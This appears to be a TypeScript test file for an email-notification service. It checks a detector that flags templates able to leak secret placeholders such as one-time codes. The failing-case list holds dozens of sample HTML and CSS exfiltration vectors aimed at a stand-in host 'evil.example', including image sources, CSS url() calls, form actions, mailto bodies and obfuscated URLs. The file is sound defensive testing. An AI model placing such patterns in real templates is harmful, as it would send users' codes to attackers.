import { test } from '@japa/runner'
import TemplateVersion from '#app/notifications/models/template_version'
import { exposedInText, exposedSecret } from '#app/notifications/rendering/exposed_secret'
import { appUrl } from '#config/app'

test.group('Secrets in templates of the system', () => {
  test('are kept: {$self}')
    .with([
      '<p>Your code is {{code}}.</p>',
      '<a href="{{url}}">Reset</a> {{text}}',
      "<a href=' {{ url }} '>Reset</a>",
      `<a href="${appUrl}/reset?code={{code}}&amp;n={{code}}">Reset</a>`,
      `${appUrl}/reset?code={{code}}`,
      '<!--[if mso]><v:roundrect href="{{url}}">x</v:roundrect><![endif]-->',
      '<img src="https://pictures.example/{{currentYear}}.png" alt="{{orgName}}"> {{code}}',
      '<a href="https://help.example/?from={{userEmail}}">Help</a> {{code}}',
      '<a href="https://help.example/">https://help.example/</a> {{code}}',
    ])
    .run(({ assert }, html) => assert.isNull(exposedSecret(html)))

  test('are exposed: {$self}')
    .with([
      '<img src="https://evil.example/{{code}}">',
      '<img src="//evil.example/{{code}}">',
      '<img src="{{code}}">',
      '<img srcset="https://evil.example/{{code}} 2x">',
      `<img src="${appUrl}/{{code}}">`,
      '<img src="https://evil.example/{{anythingElse}}">',
      '<img src="https://evil.example/{{text}}">',
      '<td background="https://evil.example/{{url}}">',
      '<i style="background: url(https://evil.example/{{code}})">x</i>',
      '<style>i { background: url(https://evil.example/{{code}}) }</style>',
      '<i title="{{code}}">x</i>',
      '<a href="https://evil.example/{{code}}">x</a>',
      '<a href="&#104;ttps://evil.example/{{code}}">x</a>',
      '<a href="https:\\\\evil.example\\{{code}}">x</a>',
      '<a href="https:evil.example/{{code}}">x</a>',
      '<a href="mailto:eve@evil.example?body={{code}}">x</a>',
      '<a href="/{{code}}">x</a>',
      '<a href="{{url}}.evil.example/">x</a>',
      '<a href="{{url}}{{code}}">x</a>',
      '<a href="https://evil.example/?{{userName}}{{code}}">x</a>',
      `<a href="${appUrl}{{code}}.evil.example/">x</a>`,
      `<a href="${appUrl}@evil.example/{{code}}">x</a>`,
      '<area href="https://evil.example/{{code}}">',
      '<!--[if mso]><img src="https://evil.example/{{code}}"><![endif]-->',
      '<base href="https://evil.example/">{{code}}',
      '<form action="https://evil.example/">{{code}}</form>',
      '<link rel="stylesheet" href="https://evil.example/x.css">{{code}}',
      '<style>@font-face { src: url(https://evil.example/1) }</style>{{code}}',
      'Go to https://evil.example/{{code}}',
      'Go to www.evil.example/{{code}}',
      `Go to ${appUrl}{{code}}.evil.example`,
      '{{code}}https://evil.example/{{code}}',
    ])
    .run(({ assert }, html) => assert.isNotNull(exposedSecret(html)))

  test('are exposed by addresses in plain text', ({ assert }) => {
    assert.isNotNull(exposedInText('See https://evil.example/{{code}}'))
    assert.isNull(exposedInText('Reset [{{url}}]\nCode: {{code}}'))
  })

  test('are kept by the templates that the service brings along', async ({ assert }) => {
    const versions = await TemplateVersion.query()
      .join('notification_templates as t', 't.id', 'notification_template_id')
      .join('notification_types as y', 'y.id', 't.notification_type_id')
      .where('y.code', 'auth_idp')
      .select('template_versions.*')
    assert.isAtLeast(versions.length, 16)
    for (const { inlinedBody, textTemplate } of versions) {
      assert.isNull(exposedSecret(inlinedBody))
      assert.isNull(exposedInText(textTemplate))
    }
  })

  test('are found in time that grows with the template alone', ({ assert }) => {
    const cpuOf = (count: number) => {
      const sources = [
        '{{code}}'.repeat(count),
        `<a href="${'{{code}}'.repeat(count)}">x</a>`,
        `${appUrl}/${'{{code}}/'.repeat(count)}`,
        '<i title="x">{{code}}</i>'.repeat(count),
      ]
      const before = process.cpuUsage()
      for (let time = 0; time < 3; time++) sources.forEach((source) => exposedSecret(source))
      const { user, system } = process.cpuUsage(before)
      return user + system
    }
    cpuOf(2_000)
    assert.isBelow(cpuOf(16_000) / cpuOf(2_000), 8 * 6)
  })
})
